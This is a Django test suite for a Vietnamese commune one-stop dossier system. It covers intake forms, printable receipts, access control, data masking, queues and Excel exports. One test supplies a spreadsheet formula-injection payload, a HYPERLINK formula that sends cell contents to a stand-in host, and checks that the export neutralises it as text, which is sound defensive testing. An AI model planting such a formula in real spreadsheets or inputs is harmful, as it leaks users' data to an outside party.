import io
import zipfile

from openpyxl import load_workbook

from cchc.core.models import AuditLog
from cchc.dossiers.models import Dossier
from cchc.testing import BaseTestCase

from .helpers import act, at, make_procedure, receive


class ViewTests(BaseTestCase):
    @classmethod
    def setUpTestData(cls) -> None:
        super().setUpTestData()
        cls.proc = make_procedure(cls.commune, department=cls.dept_justice)

    def test_the_counter_receives_a_dossier_through_the_form(self):
        self.login(self.motcua)
        r = self.client.get("/ho-so/tiep-nhan/")
        self.assertContains(r, "Tiếp nhận hồ sơ")
        data = {
            "procedure": self.proc.pk,
            "channel": "in_person",
            "applicant_name": "Lê Văn Cường",
            "applicant_id_number": "034090009999",
            "applicant_phone": "0911222333",
            "applicant_address": "Thôn Bắc",
            "documents": "Tờ khai\nGiấy chứng sinh",
            "copies": 1,
        }
        r = self.client.post("/ho-so/tiep-nhan/", dict(data, applicant_phone="12"))
        self.assertContains(r, "Số điện thoại không hợp lệ")
        self.assertFalse(Dossier.objects.exists())
        r = self.client.post("/ho-so/tiep-nhan/", data, follow=True)
        dossier = Dossier.objects.get()
        self.assertContains(r, dossier.code)
        self.assertContains(r, "Đã tiếp nhận hồ sơ")

    def test_form_01_prints_with_qr_and_downloads_as_docx(self):
        d = receive(self.motcua, self.proc, at(2025, 6, 2))
        self.login(self.motcua)
        r = self.client.get(f"/ho-so/{d.code}/mau-01/")
        self.assertContains(r, "GIẤY TIẾP NHẬN HỒ SƠ VÀ HẸN TRẢ KẾT QUẢ")
        self.assertContains(r, "size: A5")
        self.assertContains(r, "<svg")
        self.assertContains(r, f"/cong-khai/tra-cuu/?ma={d.code}")
        self.assertContains(r, "13 giờ 30 phút, ngày 05 tháng 6 năm 2025")
        r = self.client.get(f"/ho-so/{d.code}/mau-01.docx")
        self.assertEqual(r.status_code, 200)
        with zipfile.ZipFile(io.BytesIO(r.content)) as z:
            xml = z.read("word/document.xml").decode()
            self.assertTrue(any(n.startswith("word/media/") for n in z.namelist()))  # the QR image
        self.assertIn("UBND DUCXUONG", xml)
        self.assertIn("Độc lập - Tự do - Hạnh phúc", xml)
        self.assertIn(d.code, xml)
        self.assertIn('w:w="8391"', xml)  # A5 width in twentieths of a point (148 mm)
        self.assertEqual(AuditLog.objects.filter(action="export", object_id=str(d.pk)).count(), 2)

    def test_forms_that_do_not_apply_are_404_and_others_need_personal_access(self):
        d = receive(self.motcua, self.proc, at(2025, 6, 2))
        self.login(self.motcua)
        self.assertEqual(self.client.get(f"/ho-so/{d.code}/mau-03/").status_code, 404)
        act(d, "refuse", self.motcua, at(2025, 6, 2, 10), note="Không đủ điều kiện")
        self.assertContains(self.client.get(f"/ho-so/{d.code}/mau-03/"), "Không đủ điều kiện")
        self.assertContains(self.client.get(f"/ho-so/{d.code}/mau-06/"), "Từ chối")
        self.login(self.diachinh)
        self.assertEqual(self.client.get(f"/ho-so/{d.code}/mau-01/").status_code, 403)
        self.login(self.other)
        self.assertEqual(self.client.get(f"/ho-so/{d.code}/").status_code, 404)

    def test_the_detail_page_masks_personal_data_for_other_departments(self):
        d = receive(self.motcua, self.proc, at(2025, 6, 2))
        self.login(self.diachinh)
        r = self.client.get(f"/ho-so/{d.code}/")
        self.assertNotContains(r, "034095001234")
        self.assertContains(r, "đã che thông tin cá nhân")
        self.login(self.motcua)
        r = self.client.get(f"/ho-so/{d.code}/")
        self.assertContains(r, "034095001234")
        self.assertTrue(
            AuditLog.objects.filter(action="view", object_id=str(d.pk), actor=self.motcua).exists()
        )

    def test_actions_from_the_page_show_the_reason_when_refused(self):
        d = receive(self.motcua, self.proc, at(2025, 6, 2))
        self.login(self.motcua)
        r = self.client.post(f"/ho-so/{d.code}/thao-tac/", {"action": "return_result"}, follow=True)
        self.assertContains(r, "Không thể “trả kết quả”")
        r = self.client.post(
            f"/ho-so/{d.code}/thao-tac/",
            {"action": "transfer", "department": self.dept_justice.pk},
            follow=True,
        )
        self.assertContains(r, "Đã ghi thao tác")
        d.refresh_from_db()
        self.assertEqual(d.department, self.dept_justice)

    def test_queues_show_the_right_dossiers(self):
        d = receive(self.motcua, self.proc, at(2025, 6, 2))
        act(d, "transfer", self.motcua, at(2025, 6, 2, 10))
        self.login(self.tuphap)
        self.assertContains(self.client.get("/ho-so/?hang=inbox"), d.code)
        self.assertContains(self.client.get("/ho-so/?hang=overdue"), d.code)  # due 5/6/2025, long past
        self.login(self.diachinh)
        self.assertNotContains(self.client.get("/ho-so/?hang=inbox"), d.code)
        self.login(self.motcua)
        r = self.client.get("/")
        self.assertContains(r, "Hồ sơ một cửa")

    def test_register_and_statistics_export_to_excel(self):
        d = receive(self.motcua, self.proc, at(2025, 6, 2))
        self.login(self.chutich)
        r = self.client.get("/ho-so/so-theo-doi/?date_from=01/06/2025&date_to=30/06/2025")
        self.assertContains(r, d.code)
        r = self.client.get("/ho-so/so-theo-doi/?date_from=01/06/2025&date_to=30/06/2025&xuat=xlsx")
        ws = load_workbook(io.BytesIO(r.content)).active
        self.assertIn(d.code, [c.value for c in ws["B"]])
        self.assertTrue(AuditLog.objects.filter(action="export", object_repr__contains="mẫu 07").exists())
        r = self.client.get("/ho-so/thong-ke/?date_from=01/06/2025&date_to=30/06/2025")
        self.assertContains(r, "chart.umd.min.js")
        self.assertContains(r, 'data-key="dossiers.received">1 hồ sơ<')
        r = self.client.get("/ho-so/thong-ke/?date_from=01/06/2025&date_to=30/06/2025&xuat=xlsx")
        cells = [row for row in load_workbook(io.BytesIO(r.content)).active.iter_rows(values_only=True)]
        self.assertEqual(cells[1][0], "Từ 01/06/2025 đến 30/06/2025")
        self.assertIn(("Hồ sơ tiếp nhận mới trong kỳ", 1), [(r[0], r[1]) for r in cells])
        self.assertIn(("Tháng 6/2025", "01/06/2025", "14/06/2025", 1), [r[:4] for r in cells])
        self.assertIn(("Hộ tịch", 1), [(r[0], r[1]) for r in cells])  # table II.06a: to handle
        self.login(self.tuphap)
        self.assertEqual(self.client.get("/ho-so/thong-ke/").status_code, 403)

    def test_the_register_export_writes_a_formula_like_applicant_as_text(self):
        from cchc.dossiers.services import Applicant

        hostile = Applicant(
            name='=HYPERLINK("http://x.example/?"&A1,"Bấm")',
            address="@SUM(1+1)",
            phone="0912345678",
            id_number="034095001234",
        )
        d = receive(self.motcua, self.proc, at(2025, 6, 2), applicant=hostile)
        elsewhere = receive(self.other, make_procedure(self.other_commune), at(2025, 6, 2))
        self.login(self.chutich)
        r = self.client.get("/ho-so/so-theo-doi/?date_from=01/06/2025&date_to=30/06/2025&xuat=xlsx")
        ws = load_workbook(io.BytesIO(r.content)).active
        cells = {c.value: c for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
        codes = [c.value for c in ws["B"]]
        self.assertIn(d.code, codes)
        self.assertNotIn(elsewhere.code, codes)
        name = next(c for v, c in cells.items() if v.startswith("=HYPERLINK"))
        self.assertEqual(name.value, '=HYPERLINK("http://x.example/?"&A1,"Bấm")')
        self.assertEqual((name.data_type, name.quotePrefix), ("s", True))
        address = next(c for v, c in cells.items() if "@SUM(1+1)" in v)
        self.assertEqual(address.data_type, "s")
        with zipfile.ZipFile(io.BytesIO(r.content)) as z:
            self.assertNotIn("<f>", z.read("xl/worksheets/sheet1.xml").decode())

    def test_province_viewers_pick_a_commune_or_all_on_the_statistics_page(self):
        receive(self.motcua, self.proc, at(2025, 6, 2))
        other_proc = make_procedure(self.other_commune)
        receive(self.other, other_proc, at(2025, 6, 3))
        receive(self.other, other_proc, at(2025, 6, 3))
        self.login(self.captren)
        window = "date_from=01/06/2025&date_to=30/06/2025"
        self.assertContains(
            self.client.get(f"/ho-so/thong-ke/?{window}"), 'data-key="dossiers.received">3 hồ sơ<'
        )
        r = self.client.get(f"/ho-so/thong-ke/?{window}&commune={self.other_commune.pk}")
        self.assertContains(r, 'data-key="dossiers.received">2 hồ sơ<')
        self.login(self.motcua)
        r = self.client.get(f"/ho-so/thong-ke/?{window}&commune={self.other_commune.pk}")
        self.assertContains(
            r, 'data-key="dossiers.received">1 hồ sơ<'
        )  # the field is not offered: own commune only

    def test_the_register_masks_what_a_department_officer_does_not_handle(self):
        d = receive(self.motcua, self.proc, at(2025, 6, 2))
        self.login(self.diachinh)
        r = self.client.get("/ho-so/so-theo-doi/?date_from=01/06/2025&date_to=30/06/2025")
        self.assertContains(r, d.code)
        self.assertNotContains(r, "Nguyễn Văn An")
        self.assertContains(r, "N***** V** An")
        self.assertEqual(
            self.client.get(
                "/ho-so/so-theo-doi/?date_from=01/06/2025&date_to=30/06/2025&xuat=xlsx"
            ).status_code,
            403,
        )
